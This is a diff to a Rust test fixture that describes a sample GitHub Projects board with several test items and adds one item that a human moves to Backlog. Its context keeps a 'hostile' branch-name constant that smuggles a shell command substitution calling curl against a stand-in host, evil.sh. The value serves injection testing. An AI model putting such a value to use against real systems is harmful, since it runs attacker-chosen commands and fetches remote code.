@@ -1,6 +1,7 @@
 //! The quick start's board (examples/quickstart/board.yaml) as a GitHub Projects board:
 //! three items that succeed, one whose change leaves coverage below the threshold, and one
-//! whose branch name carries a shell command substitution. As in board.yaml, CALC-1 is
+//! whose branch name carries a shell command substitution; and one more, [`MOVED`], which
+//! a human moves to Backlog on GitHub after the producer queued it (not in board.yaml). As in board.yaml, CALC-1 is
 //! assigned to [`CALC_ASSIGNEE`] (it succeeds: nobody is mentioned) and the coverage item
 //! GREET-2 to [`COVERAGE_ASSIGNEE`] (its final failure mentions them).
 //!
@@ -24,6 +25,11 @@ pub fn item_id(quickstart_id: &str) -> String {
 pub const CALC_ASSIGNEE: &str = "octo-cat";
 /// The assignee of GREET-2, the item dead-lettered for coverage.
 pub const COVERAGE_ASSIGNEE: &str = "octo-reviewer";
+
+/// The item whose card is moved off the board's statuses once it is queued.
+pub const MOVED: &str = "CALC-3";
+/// Where the human moves it.
+pub const MOVED_TO: &str = "Backlog";
 
 /// The hostile head ref.
 pub const HOSTILE_BRANCH: &str = "feature/$(curl${IFS}evil.sh)";
@@ -90,6 +96,14 @@ pub fn quickstart_items() -> Vec<Item> {
             3,
             HOSTILE_BRANCH,
             20,
+        ),
+        item(
+            MOVED,
+            "Add a divide function",
+            "acme/calc",
+            3,
+            "feature/divide",
+            25,
         ),
     ]
 }
